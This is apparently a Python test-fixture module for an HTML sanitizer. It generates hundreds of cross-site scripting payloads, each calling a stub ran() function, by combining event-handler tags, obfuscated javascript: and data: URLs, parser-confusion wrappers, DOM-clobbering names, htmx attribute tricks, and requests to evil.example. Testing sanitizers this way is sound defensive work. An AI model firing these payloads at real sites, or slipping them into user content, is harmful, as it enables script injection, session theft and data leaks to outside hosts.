"""Ways to run a script from inside a text, made of their parts: who carries it, how it is hidden, what is around it.

Every payload calls ran(), which the page of a test defines. No list of known attacks: each part is a rule of HTML, of
addresses or of our own page that somebody could lean on, and the parts are multiplied.
"""

from base64 import b64encode
from collections.abc import Iterator
from itertools import product

CALL = "ran()"
IMAGE = f"<img src=x: onerror={CALL}>"
SCRIPT = f"<script>{CALL}</script>"

# Elements that tell something by themselves, without a reader doing anything.
_BY_THEMSELVES = (
    ("img src=x:", "onerror"),
    ("img srcset=x:", "onerror"),
    ("svg", "onload"),
    ("svg><image href=x:", "onerror"),
    ("svg><animate attributeName=x dur=1ms", "onbegin"),
    ("svg><set attributeName=x dur=1ms", "onbegin"),
    ("svg><style", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("iframe", "onload"),
    ("iframe src=about:blank", "onload"),
    ("object data=x:", "onerror"),
    ("embed src=x:", "onload"),
    ("script src=x:", "onerror"),
    ("link rel=stylesheet href=x:", "onerror"),
    ("style", "onload"),
    ("video src=x:", "onerror"),
    ("video><source src=x:", "onerror"),
    ("audio src=x:", "onerror"),
    ("picture><img src=x:", "onerror"),
    ("input type=image src=x:", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=x: autofocus", "onfocus"),
    ("div tabindex=1 autofocus", "onfocusin"),
    ("p contenteditable autofocus", "onfocus"),
    ("marquee", "onstart"),
)
# Events that a click or a move of the pointer brings.
_BY_HAND = (("a", "onclick"), ("p", "onmouseover"), ("div", "onpointerenter"), ("b", "onclick"), ("td", "onclick"))
# How an attribute can follow what stands before it.
_SEPARATORS = (" ", "/", "\n", "\t", "\f", " x=1 ", ' x="" ', " x='>' ")
_WRITTEN = ("{0}={1}", '{0}="{1}"', "{0}='{1}'", "{0} = {1}", "{0}=&#114;an()", "{0}=\x01{1}")

_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java&#x09;script:{CALL}",
    f"java&Tab;script&colon;{CALL}",
    f"java&NewLine;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"javascript://x.example/%0a{CALL}",
    f"javascript:/*--></title></style>*/{CALL}",
    "javascript:&#114;an()",
    "javascript:%72an()",
    f"data:text/html,<script>top.{CALL}</script>",
    "data:text/html;base64," + b64encode(f"<script>top.{CALL}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.{CALL}'/>",
    f"vbscript:{CALL}",
    f"feed:javascript:{CALL}",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<a href="{}" target=_self>x</a>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<math href="{}"><mi>x</mi></math>',
    '<map><area shape=default href="{}"></map>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form id=f></form><input type=submit form=f formaction="{}">',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<svg><a><animate attributeName=href values="{}"/><text>x</text></a></svg>',
    '<blockquote cite="{}">x</blockquote>',
)

# What surrounds a payload so that one reader of HTML sees text and another sees elements.
_SURROUNDINGS = (
    '<noscript><abbr title="</noscript>{}">',
    "<template>{}</template>",
    "<div><template shadowrootmode=open>{}</template></div>",
    '<svg><style><abbr title="</style>{}">',
    '<math><style><abbr title="</style>{}">',
    '<svg></p><style><g title="</style>{}">',
    '<math><mtext><table><mglyph><style><!--</style><abbr title="--&gt;{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><title>{}</title></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><annotation-xml encoding=text/html>{}</annotation-xml></math>",
    "<svg><![CDATA[>{}]]></svg>",
    "<![CDATA[{}]]>",
    "<!-->{}-->",
    "<!--->{}-->",
    "<!--x--!>{}-->",
    "<!-- <!-- -->{}-->",
    "<?x ?>{}",
    "<!doctype x [<!ENTITY y '>{}'>]>",
    '<textarea><abbr title="</textarea>{}">',
    '<title><abbr title="</title>{}">',
    '<xmp><abbr title="</xmp>{}">',
    '<noembed><abbr title="</noembed>{}">',
    '<noframes><abbr title="</noframes>{}">',
    '<iframe><abbr title="</iframe>{}">',
    "<select><option>{}</select>",
    "<table>{}<tr><td>x</table>",
    "<table><caption><select>{}</table>",
    "<a><table><a>{}",
    "<frameset></frameset>{}",
    "<abbr title='x{}",
    '<abbr title="x"x"">{}',
    "<abbr title=`>{}`>",
    "<x:y xmlns:x=z>{}</x:y>",
    "<div" + " a" * 200 + ">{}",
    "</p></div></body></html>{}",
    "<" * 3 + "{}",
    "<div>" * 300 + "{}",
    "<b><i><a><p></b>{}",
)  # fmt: skip
_INSIDE = (
    IMAGE,
    SCRIPT,
    f"<svg onload={CALL}>",
    f"<iframe srcdoc='&lt;script&gt;top.{CALL}&lt;/script&gt;'></iframe>",
)

# Names that reach into a page: its variables, its forms, and the attributes by which our own page acts (case 31).
_REACHING = (
    "<form name=forms id=location><input name=submit id=attributes></form>",
    "<a id=defaultView href='x:'></a><a id=ran name=top>x</a>",
    "<img name=getElementById id=cookie src=x:>",
    f"<p hx-on:click='{CALL}' hx-on::load='{CALL}'>x</p>",
    f"<p hx-on-click='{CALL}' data-hx-on:click='{CALL}'>x</p>",
    "<p hx-get='/accounts/logout/' hx-trigger=load>x</p>",
    "<p data-hx-get='https://evil.example/' data-hx-trigger=load>x</p>",
    f"<p hx-vals='js:{{x: {CALL}}}' hx-trigger='load[{CALL}]' hx-get=/>x</p>",
    "<p hx-ext=x hx-headers='{}' hx-boost=true hx-swap-oob=true id=content>x</p>",
    "<figure data-player='https://evil.example/'><a class=play href='x:'>x</a></figure>",
    "<p data-dwell=1 data-key=like data-card data-slot=0 class=card>x</p>",
    "<button type=submit form=account popovertarget=keys commandfor=keys command=show-modal>x</button>",
    "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/a.css'>",
    "<style>@import url(//evil.example/a.css); body { background: url(//evil.example/b) }</style>",
    "<p style='background: url(//evil.example/c); position: fixed; inset: 0'>x</p>",
    "<img src='//evil.example/d.gif' srcset='//evil.example/e.gif 2x' ping='//evil.example/f'>",
    "<picture><source srcset='//evil.example/g.gif'><img src='//evil.example/h.gif'></picture>",
    "<video poster='//evil.example/i.gif' src='//evil.example/j.mp4' autoplay></video>",
    "<audio src='//evil.example/k.mp3' autoplay></audio><track src='//evil.example/l.vtt'>",
    "<table background='//evil.example/m.gif'><td background='//evil.example/n.gif'>x</table>",
    "<link rel=preload as=image href='//evil.example/o.gif'><link rel=dns-prefetch href='//evil.example'>",
    "<svg><use href='//evil.example/p.svg#x'/><image href='//evil.example/q.gif'/></svg>",
    "<input type=image src='//evil.example/r.gif'><body background='//evil.example/s.gif'>",
    "<object data='//evil.example/t'></object><embed src='//evil.example/u'><iframe src='//evil.example/v'></iframe>",
    "<a href='x:' ping='//evil.example/w' download attributionsrc='//evil.example/x'>x</a>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><meta charset=utf-7>",
)  # fmt: skip
_MANGLED = (
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script\x00>{0}</script>",
    "<scri\x00pt>{0}</scri\x00pt>",
    "<script/x>{0}</script/x>",
    "<SCRIPT\n>{0}</SCRIPT\n>",
    "<script>{0}<!--<script></script>",
    "<<script>{0}//<</script>",
    '<img """><script>{0}</script>">',
    "<img src=x:onerror={0}//",
    "<script src=data:,{0}></script>",
    "<script type=module>{0}</script>",
    "<script>onerror=ran;throw 1</script>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\u2028<script>{0}</script>\u2029",
    "%3Cscript%3E{0}%3C/script%3E",
    "<\u017fcript>{0}</\u017fcript>",
    "<svg/onload={0}//",
    "<svg><script>ran&lpar;)</script></svg>",
    "<svg><script xlink:href=data:,{0}></script></svg>",
    "<svg><script>/*&lt;*/{0}</script></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{0}</handler></svg>",
)


def payloads() -> list[str]:
    """All of them, each once, always in the same order."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    yield from (f"<{carrier} {event}={CALL}>" for carrier, event in (*_BY_THEMSELVES, *_BY_HAND))
    for separator, written in product(_SEPARATORS, _WRITTEN):
        yield f"<img src=x:{separator}{written.format('onerror', CALL)}>"
        yield f"<a{separator}{written.format('onclick', CALL)}>x</a>"
    yield from (carrier.format(address) for carrier, address in product(_CARRIERS, _ADDRESSES))
    yield from (around.format(inside) for around, inside in product(_SURROUNDINGS, _INSIDE))
    yield from _REACHING
    yield from (mangled.format(CALL) for mangled in _MANGLED)
